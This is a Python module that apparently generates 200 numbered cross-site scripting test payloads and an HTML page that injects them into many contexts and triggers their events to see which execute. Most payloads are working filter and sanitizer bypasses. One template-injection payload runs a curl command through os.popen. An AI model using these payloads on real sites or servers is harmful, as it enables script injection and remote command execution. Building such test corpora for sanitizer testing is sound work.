"""Two hundred texts that would run a script, or fetch something, where a page took them for more than text.

Each is a number's own: it calls `mark(number)`, or asks a server for the number; by that it is known which one ran.
"""

from __future__ import annotations

from html import escape
from itertools import chain, product

COUNT = 200
CLOSED = """"'>--></title></textarea></style></script></noscript></xmp></iframe></select></svg></math></template>"""
OUT = (  # of what a text may stand in: attributes with each kind of quote, comments, elements whose words are no markup
    *('">', "'>", "`>", "\"'>", '\\">', "&quot;>", "-->", "--!>", "]]>", "?>", "%>"),
    *(f"</{name}>" for name in "title textarea style script noscript xmp iframe select table svg math template".split()),
)
CORES = (
    "<script>{run}</script>",
    "<img src=x: onerror={run}>",
    "<svg onload={run}>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
)
TAGS = (
    "<ScRiPt>{run}</sCrIpT>",
    "<script\n>{run}</script\t>",
    "<script/x>{run}</script>",
    "<script>{run}",
    "<script src=data:text/javascript,{run}></script>",
    "<script src='{go}'></script>",
    "<script type=module>{run}</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<<script>{run}//<</script>",
    "<script>/*<!--*/{run}/*-->*/</script>",
    "<body onload={run}>",
    "<body/onpageshow={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<button onclick={run}>x</button>",
    "<details open ontoggle={run}>x</details>",
    "<video><source onerror={run}></video>",
    "<video src=x: onerror={run}></video>",
    "<audio src=x: onerror={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<p onmouseover={run}>x</p>",
    "<b onpointerenter={run} tabindex=0>x</b>",
    "<div style='animation-name:x' onanimationstart={run}>x</div>",
    "<IMG SRC=x: OnErRoR={run}>",
    "<img/src='x:'/onerror={run}>",
    "<img src=x:\tonerror\n=\n'{run}'>",
    "<img src=x: onerror=`{run}`>",
    "<img src='x:' onerror=&#109;ark({n})>",
    "<img src=x: onerror=\\u006dark({n})>",
    "<img src=x: onerror='{run}' x=\"",
    "<image src=x: onerror={run}>",
    "<img src='{go}'>",
    "<img srcset='{go} 2x'>",
    "<picture><source srcset='{go}'><img></picture>",
    "<input type=image src='{go}'>",
    "<video poster='{go}'></video>",
    "<link rel=stylesheet href='{go}'>",
    "<link rel=icon href='{go}'>",
    "<link rel=preload as=script href='{go}'>",
    "<table background='{go}'></table>",
)
WORLDS = (
    "<svg><script>{run}</script></svg>",
    "<svg><script href=data:text/javascript,{run} /></svg>",
    "<svg><a xlink:href=javascript:{run}><text>x</text></a></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributeName=x>",
    "<svg><image href='{go}'></svg>",
    "<svg><foreignObject><img src=x: onerror={run}></foreignObject></svg>",
    "<svg><style><img src=x: onerror={run}></style></svg>",
    '<svg></p><style><a id="</style><img src=x: onerror={run}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x: onerror={run}>">',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img src=x: onerror={run}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror={run}>",
    "<math href=javascript:{run}>x</math>",
    '<noscript><p title="</noscript><img src=x: onerror={run}>">',
    "<table><caption><img src=x: onerror={run}></table>",
    "<select><option><style></option></select><img src=x: onerror={run}></style>",
    '<xmp><p title="</xmp><img src=x: onerror={run}>">',
    "<!--><img src=x: onerror={run}>-->",
    "<!-- --!><img src=x: onerror={run}>",
    "<![CDATA[><img src=x: onerror={run}>]]>",
    "<?xml version='1.0'?><img src=x: onerror={run}>",
    '<!ENTITY x "<img src=x: onerror={run}>">',
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{run}</x:script><svg onload={run}>",
    "<template><b></template><img src=x: onerror={run}>",
    "<div><template shadowrootmode=open><img src=x: onerror={run}></template></div>",
    "<a href='x' title='<img src=x: onerror={run}>'><img src=x: onerror={run}></a>",
    "<plaintext><img src=x: onerror={run}>",
    "<listing>&lt;img src=x: onerror={run}&gt;</listing><svg onload={run}>",
)
LINKS = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "\x01javascript:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "javascript\t:{run}",
    "javascript://%0a{run}",
    "javascript://{host}/%0a{run}",
    "javascript:%6dark({n})",
    "javascript:'<script>{run}</script>'",
    "javascript:void({run})",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "&#x6A;avascript&#58;{run}",
    "java&Tab;script:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,<script>{run}</script>",
    "data:text/html;charset=utf-7,+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>",
    "vbscript:{run}",
    "feed:javascript:{run}",
    "view-source:javascript:{run}",
    "//{host}/{n}",
    "\\\\{host}\\{n}",
    '#"><img src=x: onerror={run}>',
    "<a href=javascript:{run}>x</a>",
    "<a href='\x01javascript:{run}'>x</a>",
    "<a href='java\tscript:{run}'>x</a>",
    "<a href=data:text/html,<script>{run}</script>>x</a>",
    "<area href=javascript:{run}>",
    "<iframe src=javascript:{run}></iframe>",
    '<iframe src="data:text/html,<script>{run}</script>"></iframe>',
    "<iframe src='{go}'></iframe>",
    "<iframe srcdoc='&lt;script&gt;{run}&lt;/script&gt;'></iframe>",
    '<object data="data:text/html,<script>{run}</script>"></object>',
    "<object data='{go}'></object>",
    "<embed src='{go}'>",
    "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>\">",
    "<meta http-equiv=refresh content='0;url={go}'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>{run}</script>'>",
    "<base href='{go}/'><img src=x>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<form><button formaction=javascript:{run}>x</button></form>",
    "<form action='{go}'><input type=submit></form>",
    "<form id=f></form><button form=f formaction='{go}'>x</button>",
    "<isindex type=image src=x: onerror={run}><svg onload={run}>",
)
STYLES = (
    "<style>@import '{go}';</style>",
    "<style>*{{background:url({go})}}</style>",
    '<div style="background:url({go})">x</div>',
    "<div style=\"background:url('{go}');width:expression({run})\">x</div>",
    "</style><link rel=stylesheet href={go}>",
    "x;background:url({go})",
)
WORDS = (  # of templates, of scripts, of attributes without quotes, of other encodings, of characters that cannot be seen
    "{{{{'<script>{run}</script>'|safe}}}}",
    "{{% autoescape false %}}<script>{run}</script>{{% endautoescape %}}",
    "{{{{ cycler.__init__.__globals__.os.popen('curl {go}').read() }}}}",
    "${{{run}}}<svg onload={run}>",
    "#{{{run}}}<%= {run} %><svg onload={run}>",
    "<x ng-app>{{{{{run}}}}}</x><svg onload={run}>",
    "';{run};//",
    '";{run};//',
    "`;{run};//",
    "\\';{run};//",
    '\\";{run};//',
    "${{{run}}}",
    "*/{run}/*",
    "</script><script>{run}//",
    "\u2028{run}\u2029<svg onload={run}>",
    '" onmouseover={run} x="',
    "' onmouseover={run} x='",
    '" autofocus tabindex=1 onfocus={run} x="',
    "' autofocus tabindex=1 onfocus={run} x='",
    "x onmouseover={run} ",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "%3Cscript%3E{run}%3C/script%3E",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&amp;lt;svg onload={run}&amp;gt;",
    "\\x3cscript\\x3e{run}\\x3c/script\\x3e",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e<svg onload={run}>",
    "<\u200bscript>{run}</script><svg onload={run}>",
    "\u202e<script>{run}</script>\u202c",
    "\ufeff<script>{run}</script>",
    "<svg\u00a0onload={run}><svg onload={run}>",
    "<svg\x0conload={run}>",
    "[x](javascript:{run})<svg onload={run}>",
    "![x]({go})<img src={go}>",
    "<img src=x: onerror={run}//",
)
FORMS = [*TAGS, *WORLDS, *LINKS, *STYLES, *WORDS]

TRAP = """<!doctype html><script>
addEventListener("load", () => {
  for (const each of document.querySelectorAll("body *")) {
    for (const { name } of each.attributes) if (name.startsWith("on")) each.dispatchEvent(new Event(name.slice(2)));
    if (each.matches("button, [type=submit]") || !["http:", ":", undefined].includes(each.protocol)) each.click();
  }
});</script>"""


def payloads(host: str) -> tuple[str, ...]:
    """Return them; `host` is a server that is asked for `/NUMBER` by those that fetch."""
    broken = (f"{out}{core}" for core, out in product(CORES, OUT))
    forms = list(chain(FORMS, broken))[:COUNT]
    return tuple(form.format(run=f"mark({n})", go=f"http://{host}/{n}", host=host, n=n) for n, form in enumerate(forms))


def trap(*payloads: str) -> str:
    """Return a page that takes texts for markup wherever they may stand, and then does with all of it what a person might do."""
    return TRAP + "".join(map(_taken, payloads))


def _taken(payload: str) -> str:
    return f"""<a href="{escape(payload)}">x</a><a href="{payload}">x</a>{CLOSED}
<i title="{payload}">x</i>{CLOSED}<i title='{payload}'>x</i>{CLOSED}<i title={payload}>x</i>{CLOSED}
<script>var text = "{payload}"</script>{CLOSED}
<script>var text = '{payload}'</script>{CLOSED}<script>var text = `{payload}`</script>{CLOSED}
<p style="{payload}">x</p>{CLOSED}<p>{payload}</p>{CLOSED}"""
